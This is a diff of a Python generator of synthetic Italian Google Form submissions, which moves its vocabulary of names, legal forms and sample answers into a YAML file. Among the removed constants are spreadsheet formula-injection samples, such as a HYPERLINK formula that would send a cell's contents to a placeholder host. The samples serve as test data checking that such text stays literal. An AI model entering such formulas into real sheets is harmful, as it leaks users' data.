@@ -1,12 +1,17 @@
 """Synthetic Google Form responses for an Ambito, with their ground truth.
 
-Used by `elenco demo` and by the benchmarks. The rows have the shape of a Google Forms CSV export from an
-Italian-locale sheet and the noise of real submissions: organisations applying two or three times with their
-name spelled differently, a VAT number typed instead of the tax code, changed areas or contact person,
-organisations that look alike but are not the same, blocking problems, warnings, late submissions and free
-text that looks like a formula. Every row comes with the outcome the product's rules give it (`truth`).
+Used by `elenco demo`, the tests and the benchmarks. The rows have the shape of a Google Forms CSV export
+from an Italian-locale sheet and the noise of real submissions: organisations applying two or three times
+with their name spelled differently, a VAT number typed instead of the tax code, changed areas or contact
+person, organisations that look alike but are not the same, blocking problems, warnings, late submissions
+and free text that looks like a formula. Every row comes with the outcome the product's rules give it
+(`truth`).
 
-Pure and deterministic given the seed: no I/O, no clock; dates derive from the Ambito's `opens`/`deadline`.
+The Italian words it draws from (names, streets, sentences of the answers) are data:
+`sheets_templates/demo/vocabulary.yaml`, read through the settings edge (`sync.config.packaged_yaml`) by
+`load_vocabulary()`, which the edges (the CLI's `demo`, the benchmarks, the tests) call once and whose
+`Vocabulary` they pass on. Everything else is pure and deterministic given the seed: no I/O, no clock;
+dates derive from the Ambito's `opens`/`deadline`.
 """
 
 from __future__ import annotations
@@ -15,107 +20,18 @@ import csv
 import io
 import random
 import re
-import unicodedata
+from collections.abc import Mapping
 from dataclasses import dataclass, field
 from datetime import timedelta
 from functools import lru_cache
+from typing import Any
 
-from sync.config import FIELDS, Ambito
+from pydantic import BaseModel, ConfigDict
 
-CONSENT = (
-    "Dichiaro di aver letto l'informativa sul trattamento dei dati personali ai sensi dell'art. 13 "
-    "del Regolamento UE 2016/679"
-)
-FIRST_NAMES = (
-    "Andrea",
-    "Marco",
-    "Giovanna",
-    "Sara",
-    "Luca",
-    "Paola",
-    "Roberto",
-    "Chiara",
-    "Stefano",
-    "Elena",
-    "Davide",
-    "Anna",
-    "Maria",
-    "Giuseppe",
-    "Francesca",
-    "Alessandro",
-    "Silvia",
-    "Fabio",
-    "Laura",
-    "Marta",
-    "Giorgio",
-    "Federica",
-    "Matteo",
-    "Simona",
-    "Paolo",
-    "Cristina",
-    "Massimo",
-    "Daniela",
-    "Luigi",
-    "Valentina",
-)
-SURNAMES = (
-    "Bonizzi",
-    "Severgnini",
-    "Fusar Poli",
-    "Tedoldi",
-    "Pedrinazzi",
-    "Aiolfi",
-    "Ogliari",
-    "Vailati",
-    "Zucchetti",
-    "Dossena",
-    "Cattaneo",
-    "Rossi",
-    "Ferrari",
-    "Bianchi",
-    "Moretti",
-    "Marchesi",
-    "Rizzi",
-    "Lodigiani",
-    "Guerini",
-    "Zanelli",
-    "Fiorentini",
-    "Conti",
-    "Tomella",
-    "Bettinelli",
-    "Bonomi",
-    "Raimondi",
-    "Piloni",
-    "Cremonesi",
-    "Ghilardi",
-    "Barbieri",
-    "Galli",
-    "Colombo",
-    "Brambilla",
-    "Mariani",
-    "Stringhini",
-    "Capellini",
-    "Donida",
-    "Bossi",
-    "Villa",
-    "Scaglioni",
-)
-# Contact emails use common providers and PEC use certified-mail domains, as applicants do; every local part
-# is built from the synthetic names above, so no real person's address is reproduced on purpose.
-MAIL_PROVIDERS = (
-    "gmail.com",
-    "libero.it",
-    "alice.it",
-    "virgilio.it",
-    "tiscali.it",
-    "outlook.it",
-    "hotmail.it",
-    "yahoo.it",
-)
-PEC_DOMAINS = ("pec.it", "legalmail.it", "pec.libero.it")
+from sync.config import FIELDS, Ambito, packaged_yaml
+from sync.text import fold_alnum
 
 _CODE_KEYS = ("row", "entity", "expected", "reasons", "warnings")
-_NOT_ALNUM = re.compile(r"[^a-z0-9]+")
 
 
 @dataclass(frozen=True)
@@ -127,12 +43,16 @@ class DemoSet:
     truth: list[dict[str, str]]
 
 
-# Legal forms ---------------------------------------------------------------------------------------------
+# The vocabulary (data in sheets_templates/demo/vocabulary.yaml) ----------------------------------------------
 
 
-@dataclass(frozen=True, slots=True)
-class _Form:
-    key: str
+class _Data(BaseModel):
+    model_config = ConfigDict(extra="forbid", frozen=True)
+
+
+class LegalForm(_Data):
+    """A legal form as applicants write it."""
+
     label: str  # the answer to "Forma giuridica"
     suffixes: tuple[str, ...]  # spellings of the form after the name; the first is the usual one
     prefixes: tuple[str, ...]  # spellings written before the name instead (word-order swap)
@@ -141,414 +61,76 @@ class _Form:
     company: bool  # its only tax code is a partita IVA (starts with 0/1)
 
 
-_FORMS = {
-    f.key: f
-    for f in (
-        _Form(
-            "odv",
-            "Organizzazione di volontariato (ODV)",
-            (
-                "ODV",
-                "O.d.V.",
-                "OdV",
-                "Odv",
-                "O.D.V.",
-                "Organizzazione di Volontariato",
-                "organizzazione di volontariato",
-                "ODV-ETS",
-                "ODV ETS",
-                "Onlus",
-                "",
-            ),
-            ("Associazione di volontariato",),
-            0.97,
-            0.05,
-            False,
-        ),
-        _Form(
-            "aps",
-            "Associazione di promozione sociale (APS)",
-            ("APS", "A.P.S.", "Aps", "Associazione di Promozione Sociale", "APS-ETS", "APS ETS", ""),
-            ("APS",),
-            0.97,
-            0.2,
-            False,
-        ),
-        _Form(
-            "coop",
-            "Impresa sociale - cooperativa sociale",
-            (
-                "Società Cooperativa Sociale",
-                "Cooperativa Sociale",
-                "Coop. Soc.",
-                "Soc. Coop. Soc.",
-                "S.C.S.",
-                "Società Cooperativa Sociale a r.l.",
-                "Cooperativa Sociale Onlus",
-                "Coop. Sociale",
-                "Soc. Coop. Soc. a r.l. Onlus",
-                "scs",
-            ),
-            ("Cooperativa Sociale", "Soc. Coop. Sociale Onlus", "Coop. Soc."),
-            0.8,
-            0.0,
-            True,
-        ),
-        _Form(
-            "asd",
-            "Associazione sportiva dilettantistica",
-            ("ASD", "A.S.D.", "Asd", "a.s.d.", "Associazione Sportiva Dilettantistica"),
-            ("ASD", "A.S.D."),
-            0.2,
-            0.25,
-            False,
-        ),
-        _Form("fondazione", "Fondazione", ("Onlus", "ETS", "", "O.N.L.U.S."), (), 0.85, 0.3, False),
-        _Form(
-            "ets",
-            "Altro ente del Terzo settore",
-            ("ETS", "E.T.S.", "", "Ente del Terzo Settore"),
-            (),
-            0.97,
-            0.2,
-            False,
-        ),
-        _Form("nonric", "Associazione non riconosciuta", ("",), (), 0.05, 0.05, False),
-        _Form(
-            "impresa",
-            "Impresa sociale - altra forma",
-            ("Impresa Sociale", "S.r.l. Impresa Sociale", "srl Impresa Sociale", "S.r.l. - Impresa Sociale"),
-            (),
-            0.8,
-            0.0,
-            True,
-        ),
-        _Form("rete", "Rete associativa", ("", "Rete associativa", "APS"), (), 0.97, 0.1, False),
-    )
-}
+class NameTemplates(_Data):
+    """Generic heads of identities, and the templates their names are built with."""
 
-# Name vocabulary -----------------------------------------------------------------------------------------
+    association: str
+    foundation: str
+    chain: tuple[str, str, str]  # {head} {place}
+    of_place: str  # {core} {place}
+    foundation_places: tuple[str, str]  # {place}
+    friends: str  # {name}
+    parish: tuple[str, str]  # {saint} {place}
+    oratory: str  # {saint} {place}
+    network: tuple[str, str]  # {named} / {place}
 
-# (acronym or head, legal forms with weights): local sections of national networks, named after their comune
-_CHAINS: tuple[tuple[str, dict[str, float]], ...] = (
-    ("Auser", {"odv": 0.6, "aps": 0.4}),
-    ("AVIS", {"odv": 1.0}),
-    ("AIDO", {"odv": 0.7, "aps": 0.3}),
-    ("ANTEAS", {"aps": 0.5, "nonric": 0.5}),
-    ("Caritas", {"ets": 0.5, "nonric": 0.5}),
-    ("UILDM", {"odv": 0.5, "nonric": 0.5}),
-    ("ACLI", {"aps": 1.0}),
-    ("ARCI", {"aps": 1.0}),
-    ("ANFFAS", {"odv": 0.5, "aps": 0.5}),
-    ("ADMO", {"odv": 1.0}),
-    ("Pro Loco", {"aps": 1.0}),
-    ("Croce Verde", {"odv": 1.0}),
-    ("Gruppo Alpini", {"odv": 0.5, "nonric": 0.5}),
-    ("Protezione Civile", {"odv": 1.0}),
-    ("Centro Aiuto alla Vita", {"odv": 1.0}),
-    ("ABIO", {"odv": 1.0}),
-    ("LILT", {"odv": 0.5, "ets": 0.5}),
-    ("SPI CGIL", {"nonric": 1.0}),
-    ("FNP CISL", {"nonric": 1.0}),
-    ("Gruppo Scout AGESCI", {"nonric": 1.0}),
-)
-_PLACE_HEADS: tuple[tuple[str, dict[str, float]], ...] = (
-    ("Gruppo Volontari", {"odv": 0.5, "aps": 0.3, "nonric": 0.2}),
-    ("Associazione Genitori", {"aps": 0.6, "odv": 0.2, "nonric": 0.2}),
-    ("Centro Anziani", {"aps": 0.6, "nonric": 0.4}),
-    ("Associazione Pensionati", {"aps": 1.0}),
-    ("Comitato Genitori", {"nonric": 1.0}),
-    ("Gruppo di Cammino", {"nonric": 1.0}),
-    ("Circolo Culturale", {"aps": 1.0}),
-    ("Associazione Famiglie", {"aps": 0.7, "odv": 0.3}),
-    ("Centro Sociale", {"aps": 0.8, "nonric": 0.2}),
-    ("Società di Mutuo Soccorso di", {"ets": 1.0}),
-)
-_SPORTS = (
-    "Polisportiva",
-    "Gruppo Sportivo",
-    "Atletica",
-    "Pallavolo",
-    "Basket",
-    "Unione Sportiva",
-    "Ciclistica",
-)
-_CAUSES = (
-    "Parkinson",
-    "Alzheimer",
-    "Autismo",
-    "Diabetici",
-    "Malati Oncologici",
-    "Sclerosi Multipla",
-    "Salute Mentale",
-    "Donne contro la Violenza",
-    "Genitori Separati",
-    "Famiglie Affidatarie",
-    "Sindrome di Down",
-    "Disabili Visivi",
-    "Amici del Cuore",
-    "Familiari Malati Psichici",
-    "Malati Reumatici",
-    "Cure Palliative",
-)
-_NAMED = (
-    "Il Girasole",
-    "La Bottega",
-    "Arcobaleno",
-    "Il Ponte",
-    "Il Volo",
-    "Il Nodo",
-    "Il Mosaico",
-    "L'Approdo",
-    "Il Germoglio",
-    "La Rete",
-    "Fiordaliso",
-    "Il Faro",
-    "Il Pozzo",
-    "Insieme",
-    "Rinascita",
-    "Il Timone",
-    "La Fenice",
-    "Porta Aperta",
-    "Oltre",
-    "L'Officina",
-    "Il Seme",
-    "La Tenda",
-    "Il Melograno",
-    "Koinè",
-    "La Zolla",
-    "Il Sentiero",
-    "Lo Scrigno",
-    "La Bussola",
-    "Il Sorriso",
-    "Agape",
-    "Nuovi Orizzonti",
-    "Il Quadrifoglio",
-    "La Goccia",
-    "Il Cerchio",
-    "L'Abbraccio",
-    "La Rondine",
-    "Il Cortile",
-    "La Cordata",
-    "Il Granello",
-    "La Casa di Marta",
-    "Il Gabbiano",
-    "L'Aquilone",
-    "La Lanterna",
-    "Il Pellicano",
-    "La Sorgente",
-    "Il Mandorlo",
-    "L'Ulivo",
-    "La Quercia",
-    "Il Glicine",
-    "La Vite",
-    "Il Chicco",
-    "La Strada",
-    "Il Cammino",
-    "Sentieri",
-    "Orizzonte",
-    "Solidarietà",
-    "Accoglienza",
-    "Futura",
-    "Primavera",
-    "Il Millepiedi",
-    "La Coccinella",
-    "Il Filo d'Erba",
-    "La Mongolfiera",
-    "Il Piccolo Principe",
-    "La Nuova Alba",
-    "Tangram",
-    "Itaca",
-    "Emmaus",
-    "Betania",
-    "La Locomotiva",
-    "Il Veliero",
-    "La Clessidra",
-    "Il Tralcio",
-    "La Meridiana",
-)
-# two-part names of cooperatives and associations ("Cascina San Marco", "Spazio Comune")
-_COMPOUND_HEADS = (
-    "Casa",
-    "Centro",
-    "Spazio",
-    "Cascina",
-    "Bottega",
-    "Laboratorio",
-    "Villaggio",
-    "Progetto",
-    "Rifugio",
-    "Porto",
-    "Orto",
-)
-_COMPOUND_TAILS = (
-    "Solidale",
-    "Comune",
-    "Insieme",
-    "del Sole",
-    "della Speranza",
-    "dei Ragazzi",
-    "delle Famiglie",
-    "della Gioia",
-    "del Fiume",
-    "San Marco",
-    "Santa Maria",
-    "Felice",
-    "dell'Accoglienza",
-    "della Pace",
-    "degli Amici",
-    "del Sorriso",
-    "Arcobaleno",
-    "Futuro",
-)
-_SAINTS = (
-    "San Francesco",
-    "San Vincenzo de' Paoli",
-    "San Pantaleone",
-    "San Giacomo",
-    "San Martino",
-    "San Rocco",
-    "San Giuseppe",
-    "San Bernardino",
-    "San Carlo",
-    "San Lorenzo",
-    "San Michele",
-    "San Giovanni Bosco",
-    "Santa Chiara",
-    "Santa Maria della Croce",
-    "Santa Lucia",
-    "Santa Rita",
-    "Santa Caterina",
-    "Sant'Angela Merici",
-    "Sant'Agostino",
-    "Sant'Ambrogio",
-    "Sant'Antonio",
-)
-_TERRITORY = {
-    "Crema": "Cremasco",
-    "Cremona": "Cremonese",
-    "Cernusco sul Naviglio": "Martesana",
-    "Lodi": "Lodigiano",
-    "Bergamo": "Bergamasco",
-    "Brescia": "Bresciano",
-    "Milano": "Milanese",
-    "Mantova": "Mantovano",
-    "Pavia": "Pavese",
-    "Treviglio": "Trevigliese",
-    "Casalmaggiore": "Casalasco",
-}
-_ARTICLES = ("Il ", "La ", "Lo ", "I ", "Gli ", "Le ", "L'")
-# words ignored when telling two generated identities apart ("Associazione Il Ponte" = "Il Ponte")
-_KEY_STOPWORDS = frozenset({"il", "la", "lo", "l", "i", "gli", "le", "associazione", "di"})
 
-# Comuni outside an Ambito that applicants give as their seat: (name, province, ISTAT province code).
-_NEARBY: dict[str, tuple[tuple[str, str, str], ...]] = {
-    "CR": (
-        ("Cremona", "CR", "019"),
-        ("Crema", "CR", "019"),
-        ("Lodi", "LO", "098"),
-        ("Treviglio", "BG", "016"),
-        ("Caravaggio", "BG", "016"),
-        ("Soresina", "CR", "019"),
-        ("Brescia", "BS", "017"),
-        ("Piacenza", "PC", "033"),
-        ("Codogno", "LO", "098"),
-        ("Casalmaggiore", "CR", "019"),
-        ("Romano di Lombardia", "BG", "016"),
-        ("Orzinuovi", "BS", "017"),
-        ("Piadena Drizzona", "CR", "019"),
-        ("Casalpusterlengo", "LO", "098"),
-    ),
-    "MI": (
-        ("Melzo", "MI", "015"),
-        ("Segrate", "MI", "015"),
-        ("Pioltello", "MI", "015"),
-        ("Vimodrone", "MI", "015"),
-        ("Inzago", "MI", "015"),
-        ("Cassano d'Adda", "MI", "015"),
-        ("Cologno Monzese", "MI", "015"),
-        ("Trezzo sull'Adda", "MI", "015"),
-        ("Treviglio", "BG", "016"),
-        ("Sesto San Giovanni", "MI", "015"),
-        ("Vimercate", "MB", "015"),
-        ("Brugherio", "MB", "015"),
-    ),
-}
-_NATIONAL = (
-    ("Milano", "MI", "015"),
-    ("Bergamo", "BG", "016"),
-    ("Brescia", "BS", "017"),
-    ("Torino", "TO", "001"),
-    ("Bologna", "BO", "037"),
-    ("Verona", "VR", "023"),
-    ("Roma", "RM", "058"),
-    ("Pavia", "PV", "018"),
-    ("Mantova", "MN", "020"),
-    ("Parma", "PR", "034"),
-)
-_PHONE_PREFIXES = {
-    "CR": ("0373", "0374", "0372"),
-    "MI": ("02", "02", "0295"),
-    "BG": ("035", "0363"),
-    "LO": ("0371", "0377"),
-    "BS": ("030",),
-    "PC": ("0523",),
-}
-_STREETS = (
-    "Via Roma",
-    "Via Cavour",
-    "Via Mazzini",
-    "Via Garibaldi",
-    "Via Dante",
-    "Via Verdi",
-    "Via XX Settembre",
-    "Piazza Duomo",
-    "Via Matteotti",
-    "Via IV Novembre",
-    "Piazza della Libertà",
-    "Via San Martino",
-    "Viale Europa",
-    "Via Gramsci",
-    "Via Manzoni",
-    "Via Kennedy",
-    "Via De Gasperi",
-    "Vicolo del Forno",
-)
-_EXPERIENCE = (
-    "Volontariato di prossimità: trasporti, compagnia, spesa a domicilio.",
-    "Sportello di ascolto, distribuzione alimentare, housing sociale.",
-    "Attività sportive inclusive per ragazzi con disabilità.",
-    "Inserimento lavorativo di persone svantaggiate (tipo B).",
-    "Gestiamo servizi educativi e di sostegno alle famiglie dal 1998.",
-    "Centro diurno per anziani e servizio di assistenza domiciliare.",
-    "Doposcuola e spazio compiti per ragazzi delle medie, in rete con l'oratorio.",
-    "Gruppi di auto mutuo aiuto per familiari; corsi di formazione per volontari.",
-    "Trasporto sociale verso ospedali e centri di cura, 40 volontari autisti.",
-    "Accoglienza di donne vittime di violenza e dei loro figli, in convenzione con i comuni.",
-    "Progetti di educativa di strada e prevenzione delle dipendenze con i giovani.",
-    "Comunità alloggio per persone con disabilità e servizio di sollievo.",
-    "Raccolta sangue e sensibilizzazione nelle scuole.",
-    "Emporio solidale e orientamento al lavoro per persone in difficoltà.",
-    "Laboratori artistici e musicali per bambini e famiglie; centri estivi.",
-    "Mediazione culturale e corsi di italiano per stranieri.",
-)
-# Free text that a spreadsheet would read as a formula or a mention (= + - @): it must stay literal text.
-_FORMULA_TEXT = (
-    '=HYPERLINK("http://esempio.invalid/?d="&A1;"dettagli")',
-    '=IMPORTXML("http://esempio.invalid";"//a")',
-    "+39 0373 000000 chiamare dopo le 18",
-    "-- nessuna esperienza --",
-    "- trasporto anziani\n- spesa a domicilio\n- compagnia telefonica",
-    "@sede operativa a {lead}",
-    "=1+1",
-)
-_FORMULA_ADDRESS = (
-    "- {street} {n}",
-    "@ Casa del Volontariato, {street} {n}",
-    "+ {street} {n} (c/o oratorio)",
-    "={street} {n}",
-)
-_TEST_NAME_FALLBACK = "Prova invio modulo"
+Place = tuple[str, str, str]  # (comune, province, ISTAT province code)
+Extra = tuple[str, str, str, int, str]  # (name, legal form, comune, area number, e-mail user or protocol)
+
+
+class Vocabulary(_Data):
+    """Every Italian word and sentence the generator draws from (see the YAML file's comments)."""
+
+    consent: str
+    first_names: tuple[str, ...]
+    surnames: tuple[str, ...]
+    mail_providers: tuple[str, ...]
+    pec_domains: tuple[str, ...]
+    legal_forms: dict[str, LegalForm]
+    chains: tuple[tuple[str, dict[str, float]], ...]
+    place_heads: tuple[tuple[str, dict[str, float]], ...]
+    sports: tuple[str, ...]
+    causes: tuple[str, ...]
+    named: tuple[str, ...]
+    compound_heads: tuple[str, ...]
+    compound_tails: tuple[str, ...]
+    saints: tuple[str, ...]
+    territory: dict[str, str]
+    articles: tuple[str, ...]
+    key_stopwords: frozenset[str]
+    nearby: dict[str, tuple[Place, ...]]
+    national: tuple[Place, ...]
+    phone_prefixes: dict[str, tuple[str, ...]]
+    default_phone_prefixes: tuple[str, ...]
+    streets: tuple[str, ...]
+    experience: tuple[str, ...]
+    formula_text: tuple[str, ...]
+    formula_address: tuple[str, ...]
+    test_name_fallback: str
+    names: NameTemplates
+    no_tax_code: tuple[str, ...]
+    not_a_tax_code: tuple[str, ...]
+    runts_prefixes: tuple[str, ...]
+    org_email: tuple[str, str]
+    bad_emails: tuple[str, ...]
+    extra_form: dict[str, tuple[Extra, ...]]
+    extra_manual: dict[str, tuple[Extra, ...]]
+    manual_channel: str
+
+
+def parse_vocabulary(data: Mapping[str, Any]) -> Vocabulary:
+    """The vocabulary from the YAML file's data (a pydantic ValidationError names a wrong entry)."""
+    return Vocabulary.model_validate(data)
+
+
+@lru_cache(maxsize=1)
+def load_vocabulary() -> Vocabulary:
+    """`sheets_templates/demo/vocabulary.yaml`, read once per process by the settings edge (`sync.config`):
+    the edges call this and hand the vocabulary to `generate` / `demo_extras`, which read nothing."""
+    return parse_vocabulary(packaged_yaml("demo", "vocabulary.yaml"))
+
+
 _TYPO_NEIGHBOURS = "qwertyuiopasdfghjklzxcvbnm"
 _CF_MONTHS = "ABCDEHLMPRST"
 _CF_ODD = (1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23)
@@ -573,7 +155,8 @@ _PROBLEMS: tuple[tuple[str, float], ...] = (
 class _Org:
     index: int
     entity: str
-    form: _Form
+    form_key: str
+    form: LegalForm
     head: str  # generic head noun written before the identity ("Associazione", "Fondazione"), or ""
     cores: tuple[str, ...]  # spellings of the identity; the first is the usual one
     suffix: str  # the legal-form spelling this organisation usually writes
@@ -609,10 +192,11 @@ class _Row:
 class _Context:
     ambito: Ambito
     rng: random.Random
+    voc: Vocabulary
     comuni: list[tuple[str, tuple[str, ...], str]]  # (name, spellings, ISTAT province code)
     lead: int  # index of the lead comune in `comuni`
     territory: str
-    outside: list[tuple[str, str, str]]
+    outside: list[Place]
     prefixes: tuple[str, ...]
     used_names: dict[str, int] = field(default_factory=dict)
     used_codes: set[str] = field(default_factory=set)
@@ -623,19 +207,15 @@ class _Context:
     test_emails: tuple[str, ...] = ()
 
 
-@lru_cache(maxsize=65_536)
-def _fold(text: str) -> str:
-    if not text.isascii():
-        text = unicodedata.normalize("NFKD", text.replace("\u2019", "'"))
-        text = "".join(ch for ch in text if not unicodedata.combining(ch))
-    return _NOT_ALNUM.sub(" ", text.casefold()).strip()
+# the product's folding (sync.text), cached: the generator folds the same few thousand names again and again
+_fold = lru_cache(maxsize=65_536)(fold_alnum)
 
 
 def _slug(text: str) -> str:
     return _fold(text).replace(" ", "")
 
 
-def _weighted(rng: random.Random, weights: dict[str, float]) -> str:
+def _weighted(rng: random.Random, weights: Mapping[str, float]) -> str:
     keys = list(weights)
     return rng.choices(keys, weights=[weights[k] for k in keys])[0]
 
@@ -702,11 +282,11 @@ def _personal_code(ctx: _Context, person: str) -> str:
             return code
 
 
-def _person(rng: random.Random) -> str:
-    return f"{rng.choice(FIRST_NAMES)} {rng.choice(SURNAMES)}"
+def _person(rng: random.Random, v: Vocabulary) -> str:
+    return f"{rng.choice(v.first_names)} {rng.choice(v.surnames)}"
 
 
-def _personal_email(rng: random.Random, person: str) -> str:
+def _personal_email(rng: random.Random, v: Vocabulary, person: str) -> str:
     first, _, last = person.partition(" ")
     f, sur = _slug(first), _slug(last)
     style = rng.random()
@@ -716,19 +296,19 @@ def _personal_email(rng: random.Random, person: str) -> str:
         local = f"{f[0]}{sur}"
     else:
         local = f"{f}{sur}{rng.randint(60, 99)}"
-    return f"{local}@{rng.choice(MAIL_PROVIDERS)}"
+    return f"{local}@{rng.choice(v.mail_providers)}"
 
 
 def _phone(ctx: _Context, province: str) -> str:
     rng = ctx.rng
     if rng.random() < 0.25:
         return f"3{rng.randint(20, 49)} {rng.randint(1_000_000, 9_999_999)}"
-    prefix = rng.choice(_PHONE_PREFIXES.get(province, ctx.prefixes))
+    prefix = rng.choice(ctx.voc.phone_prefixes.get(province, ctx.prefixes))
     digits = 8 if prefix == "02" else 6
     return f"{prefix} {rng.randrange(10 ** (digits - 1), 10**digits)}"
 
 
-def _context(ambito: Ambito, rng: random.Random) -> _Context:
+def _context(ambito: Ambito, rng: random.Random, v: Vocabulary) -> _Context:
     comuni = [(c.nome, (c.nome, *c.varianti), c.istat[:3]) for c in ambito.comuni]
     names = [c[0] for c in comuni]
     lead = 0
@@ -739,19 +319,20 @@ def _context(ambito: Ambito, rng: random.Random) -> _Context:
         lead = next((i for i, n in enumerate(names) if _fold(n) in _fold(ambito.name)), 0)
     lead_name = names[lead]
     own = {_fold(s) for c in comuni for s in c[1]}
-    outside: list[tuple[str, str, str]] = []
-    for c in (*_NEARBY.get(ambito.province, ()), *_NATIONAL):
+    outside: list[Place] = []
+    for c in (*v.nearby.get(ambito.province, ()), *v.national):
         if _fold(c[0]) not in own and c not in outside:
             outside.append(c)
     late = [p.label for p in ambito.phases if p.after_deadline]
     return _Context(
         ambito=ambito,
         rng=rng,
+        voc=v,
         comuni=comuni,
         lead=lead,
-        territory=_TERRITORY.get(lead_name, lead_name),
+        territory=v.territory.get(lead_name, lead_name),
         outside=outside,
-        prefixes=_PHONE_PREFIXES.get(ambito.province, ("02", "030", "035")),
+        prefixes=v.phone_prefixes.get(ambito.province, v.default_phone_prefixes),
         areas=[a.label for a in ambito.areas],
         phases=[p.label for p in ambito.phases],
         late_phases=", ".join(late),
@@ -777,19 +358,20 @@ def _pick_comune(ctx: _Context, outside: bool) -> tuple[str, tuple[str, ...], st
 
 def _identity(ctx: _Context, place: str) -> tuple[str, tuple[str, ...], str, str]:
     """(head, cores, legal form key, kind) of a new organisation seated in `place`."""
-    rng = ctx.rng
+    rng, v = ctx.rng, ctx.voc
+    t = v.names
     r = rng.random()
     if r < 0.22:
-        acr, forms = rng.choice(_CHAINS)
-        cores = (f"{acr} {place}", f"{acr} di {place}", f"{acr} - {place}")
+        acr, forms = rng.choice(v.chains)
+        cores = tuple(template.format(head=acr, place=place) for template in t.chain)
         if rng.random() < 0.25:
             cores = (cores[1], cores[0], cores[2])
         return "", cores, _weighted(rng, forms), "chain"
     if r < 0.35:
-        head, forms = rng.choice(_PLACE_HEADS)
+        head, forms = rng.choice(v.place_heads)
         return "", (f"{head} {place}",), _weighted(rng, forms), "place"
     if r < 0.46:
-        sport = rng.choice(_SPORTS)
+        sport = rng.choice(v.sports)
         core = f"{sport} {place}"
         if rng.random() < 0.35:
             core = f"{core} {rng.randint(1, 99)}"
@@ -797,65 +379,71 @@ def _identity(ctx: _Context, place: str) -> tuple[str, tuple[str, ...], str, str
     if r < 0.52:
         where = ctx.territory if rng.random() < 0.6 else place
         return (
-            "Associazione",
-            (f"{rng.choice(_CAUSES)} {where}",),
+            t.association,
+            (f"{rng.choice(v.causes)} {where}",),
             _weighted(rng, {"odv": 0.4, "aps": 0.3, "ets": 0.15, "nonric": 0.15}),
             "cause",
         )
     if r < 0.66:
-        core = _named(rng)
+        core = _named(rng, v)
         form = _weighted(rng, {"aps": 0.45, "odv": 0.35, "ets": 0.1, "nonric": 0.1})
-        return "Associazione", (core,), form, "named"
+        return t.association, (core,), form, "named"
     if r < 0.80:
-        return "", (_named(rng),), "coop", "named"
+        return "", (_named(rng, v),), "coop", "named"
     if r < 0.85:
         core = rng.choice(
             (
-                _named(rng),
-                rng.choice(SURNAMES),
-                f"{rng.choice(FIRST_NAMES)} {rng.choice(SURNAMES)}",
-                f"Opera Pia {place}",
-                f"Comunitaria {place}",
+                _named(rng, v),
+                rng.choice(v.surnames),
+                f"{rng.choice(v.first_names)} {rng.choice(v.surnames)}",
+                *(template.format(place=place) for template in t.foundation_places),
             )
         )
-        return "Fondazione", (core,), "fondazione", "named"
+        return t.foundation, (core,), "fondazione", "named"
     if r < 0.92:
-        saint = rng.choice(_SAINTS)
-        pick = rng.random()
-        if pick < 0.5:
-            form = _weighted(rng, {"nonric": 0.5, "odv": 0.3, "aps": 0.2})
-            return "", (f"Amici di {saint}",), form, "saint"
-        if pick < 0.75:
-            return "", (f"Parrocchia di {saint} - {place}", f"Parrocchia {saint} {place}"), "ets", "saint"
-        return "", (f"Oratorio {saint} {place}",), _weighted(rng, {"aps": 0.6, "nonric": 0.4}), "saint"
+        return _saint_identity(rng, v, place)
     if r < 0.96:
-        first = rng.choice(FIRST_NAMES)
-        sur = rng.choice(SURNAMES)
+        person = f"{rng.choice(v.first_names)} {rng.choice(v.surnames)}"
         return (
-            "Associazione",
-            (f"{first} {sur}", f"Amici di {first} {sur}"),
+            t.association,
+            (person, t.friends.format(name=person)),
             _weighted(rng, {"odv": 0.6, "aps": 0.4}),
             "memorial",
         )
     if r < 0.985:
-        return "", (_named(rng),), "impresa", "named"
-    core = rng.choice((f"Rete {rng.choice(_NAMED)}", f"Forum del Terzo Settore {place}"))
+        return "", (_named(rng, v),), "impresa", "named"
+    network, forum = t.network
+    core = rng.choice((network.format(named=rng.choice(v.named)), forum.format(place=place)))
     return "", (core,), "rete", "named"
 
 
-def _named(rng: random.Random) -> str:
+def _saint_identity(rng: random.Random, v: Vocabulary, place: str) -> tuple[str, tuple[str, ...], str, str]:
+    """Friends of a saint, a parish or an oratory."""
+    t = v.names
+    saint = rng.choice(v.saints)
+    pick = rng.random()
+    if pick < 0.5:
+        form = _weighted(rng, {"nonric": 0.5, "odv": 0.3, "aps": 0.2})
+        return "", (t.friends.format(name=saint),), form, "saint"
+    if pick < 0.75:
+        return "", tuple(p.format(saint=saint, place=place) for p in t.parish), "ets", "saint"
+    oratory = t.oratory.format(saint=saint, place=place)
+    return "", (oratory,), _weighted(rng, {"aps": 0.6, "nonric": 0.4}), "saint"
+
+
+def _named(rng: random.Random, v: Vocabulary) -> str:
     if rng.random() < 0.6:
-        return rng.choice(_NAMED)
-    return f"{rng.choice(_COMPOUND_HEADS)} {rng.choice(_COMPOUND_TAILS)}"
+        return rng.choice(v.named)
+    return f"{rng.choice(v.compound_heads)} {rng.choice(v.compound_tails)}"
 
 
-def _identity_key(head: str, core: str) -> str:
-    return " ".join(w for w in _fold(f"{head} {core}").split() if w not in _KEY_STOPWORDS)
+def _identity_key(ctx: _Context, head: str, core: str) -> str:
+    return " ".join(w for w in _fold(f"{head} {core}").split() if w not in ctx.voc.key_stopwords)
 
 
 def _unique(ctx: _Context, head: str, cores: tuple[str, ...], place: str) -> tuple[str, ...]:
     """Make the usual core unique among the organisations generated so far (a place, then a number)."""
-    key = _identity_key(head, cores[0])
+    key = _identity_key(ctx, head, cores[0])
     if key not in ctx.used_names:
         ctx.used_names[key] = 1
         return cores
@@ -863,8 +451,8 @@ def _unique(ctx: _Context, head: str, cores: tuple[str, ...], place: str) -> tup
         if ctx.territory in cores[0]:  # "Associazione Parkinson Cremasco" -> "Associazione Parkinson Soncino"
             placed = tuple(c.replace(ctx.territory, place) for c in cores)
         else:
-            placed = tuple(f"{c} di {place}" for c in cores)
-        key2 = _identity_key(head, placed[0])
+            placed = tuple(ctx.voc.names.of_place.format(core=c, place=place) for c in cores)
+        key2 = _identity_key(ctx, head, placed[0])
         if key2 not in ctx.used_names:
             ctx.used_names[key2] = 1
             return placed
@@ -874,11 +462,11 @@ def _unique(ctx: _Context, head: str, cores: tuple[str, ...], place: str) -> tup
     m = re.fullmatch(r"(.*) (\d+)", base)
     if m:
         base, n = m.group(1), int(m.group(2)) + 1
-    while _identity_key(head, f"{base} {n}") in ctx.used_names:
+    while _identity_key(ctx, head, f"{base} {n}") in ctx.used_names:
         n += 1
